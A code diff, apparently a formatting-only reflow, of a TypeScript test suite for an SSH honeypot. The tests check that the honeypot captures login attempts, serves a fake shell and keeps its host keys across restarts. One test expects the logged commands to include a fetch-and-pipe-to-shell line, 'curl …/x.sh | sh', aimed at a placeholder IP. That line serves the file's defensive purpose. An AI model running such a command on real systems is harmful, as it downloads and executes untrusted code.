@@ -11,20 +11,31 @@ const ip = '127.0.10.1';
 const version = 'OpenSSH_8.9p1 Ubuntu-3ubuntu0.10';
 const kernel = '5.15.0-119-generic';
 const sshFlags = [
-  '-o', 'StrictHostKeyChecking=no',
-  '-o', 'UserKnownHostsFile=/dev/null',
-  '-o', 'PreferredAuthentications=password',
-  '-o', 'PubkeyAuthentication=no',
-  '-o', 'NumberOfPasswordPrompts=1',
-  '-o', 'LogLevel=ERROR',
-  '-o', 'ConnectTimeout=10',
+  '-o',
+  'StrictHostKeyChecking=no',
+  '-o',
+  'UserKnownHostsFile=/dev/null',
+  '-o',
+  'PreferredAuthentications=password',
+  '-o',
+  'PubkeyAuthentication=no',
+  '-o',
+  'NumberOfPasswordPrompts=1',
+  '-o',
+  'LogLevel=ERROR',
+  '-o',
+  'ConnectTimeout=10',
 ];
 
 describe('ssh honeypot with the OpenSSH client', () => {
   let h: ServiceHarness;
   let tmp: { dir: string; remove: () => Promise<void> };
   const askpass = (password: string) => join(tmp.dir, `askpass-${password}`);
-  const sshEnv = (password: string) => ({ SSH_ASKPASS: askpass(password), SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' });
+  const sshEnv = (password: string) => ({
+    SSH_ASKPASS: askpass(password),
+    SSH_ASKPASS_REQUIRE: 'force',
+    DISPLAY: ':0',
+  });
 
   beforeAll(async () => {
     tmp = await makeTmpDir('decnet-ssh-test-');
@@ -32,7 +43,16 @@ describe('ssh honeypot with the OpenSSH client', () => {
       await writeFile(askpass(pw), `#!/bin/sh\necho '${pw}'\n`);
       await chmod(askpass(pw), 0o755);
     }
-    h = await startService(sshService, { ip, distro: 'ubuntu22', hostname: 'web-01', serviceConfig: { ssh: { version, kernel, users: 'root:toor,deploy:deploy' } } }, { dataDir: join(tmp.dir, 'data') });
+    h = await startService(
+      sshService,
+      {
+        ip,
+        distro: 'ubuntu22',
+        hostname: 'web-01',
+        serviceConfig: { ssh: { version, kernel, users: 'root:toor,deploy:deploy' } },
+      },
+      { dataDir: join(tmp.dir, 'data') },
+    );
   });
   afterAll(async () => {
     await h.stop();
@@ -57,10 +77,14 @@ describe('ssh honeypot with the OpenSSH client', () => {
   });
 
   it('captures keyboard-interactive answers too', async () => {
-    const flags = sshFlags.map((f) => (f === 'PreferredAuthentications=password' ? 'PreferredAuthentications=keyboard-interactive' : f));
+    const flags = sshFlags.map((f) =>
+      f === 'PreferredAuthentications=password' ? 'PreferredAuthentications=keyboard-interactive' : f,
+    );
     const r = await run('ssh', [...flags, `oracle@${ip}`, 'id'], { env: sshEnv('wrongpass') });
     expect(r.code).toBe(255);
-    const auth = await eventually(() => h.ofKind('auth').find((a) => a.data.method === 'keyboard-interactive' && a.data.username === 'oracle'));
+    const auth = await eventually(() =>
+      h.ofKind('auth').find((a) => a.data.method === 'keyboard-interactive' && a.data.username === 'oracle'),
+    );
     expect(auth.data).toMatchObject({ password: 'wrongpass', success: false });
   });
 
@@ -76,7 +100,10 @@ describe('ssh honeypot with the OpenSSH client', () => {
   });
 
   it('runs an interactive pty shell that answers from the static table', async () => {
-    const child = spawn('ssh', ['-tt', ...sshFlags, `root@${ip}`], { env: { ...process.env, ...sshEnv('toor') }, stdio: ['pipe', 'pipe', 'pipe'] });
+    const child = spawn('ssh', ['-tt', ...sshFlags, `root@${ip}`], {
+      env: { ...process.env, ...sshEnv('toor') },
+      stdio: ['pipe', 'pipe', 'pipe'],
+    });
     let out = '';
     child.stdout.on('data', (d: Buffer) => (out += d.toString()));
     const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
@@ -87,7 +114,10 @@ describe('ssh honeypot with the OpenSSH client', () => {
     await eventually(() => out.includes('-bash: curl: command not found'), { what: 'unknown command reply' });
     child.stdin.write('exit\n');
     expect(await exited).toBe(0);
-    const typed = h.ofKind('command').filter((c) => c.data.mode === 'shell').map((c) => c.data.command);
+    const typed = h
+      .ofKind('command')
+      .filter((c) => c.data.mode === 'shell')
+      .map((c) => c.data.command);
     expect(typed).toEqual(expect.arrayContaining(['ls /', 'curl http://203.0.113.9/x.sh | sh', 'exit']));
   });
 
@@ -104,12 +134,20 @@ describe('ssh honeypot with the OpenSSH client', () => {
   it('offers RSA, ECDSA and Ed25519 host keys that survive a restart', async () => {
     const scan = async () => {
       const out = (await run('ssh-keyscan', ['-t', 'rsa,ecdsa,ed25519', ip])).stdout;
-      return out.split('\n').filter((l) => l.startsWith(ip)).map((l) => l.split(' ').slice(1).join(' ')).sort();
+      return out
+        .split('\n')
+        .filter((l) => l.startsWith(ip))
+        .map((l) => l.split(' ').slice(1).join(' '))
+        .sort();
     };
     const before = await scan();
     expect(before.map((k) => k.split(' ')[0])).toEqual(['ecdsa-sha2-nistp256', 'ssh-ed25519', 'ssh-rsa']);
     await h.running.close();
-    h = await startService(sshService, { ip, distro: 'ubuntu22', hostname: 'web-01', serviceConfig: { ssh: { version, kernel, users: 'root:toor' } } }, { dataDir: h.dataDir });
+    h = await startService(
+      sshService,
+      { ip, distro: 'ubuntu22', hostname: 'web-01', serviceConfig: { ssh: { version, kernel, users: 'root:toor' } } },
+      { dataDir: h.dataDir },
+    );
     expect(await scan()).toEqual(before);
   });
 });
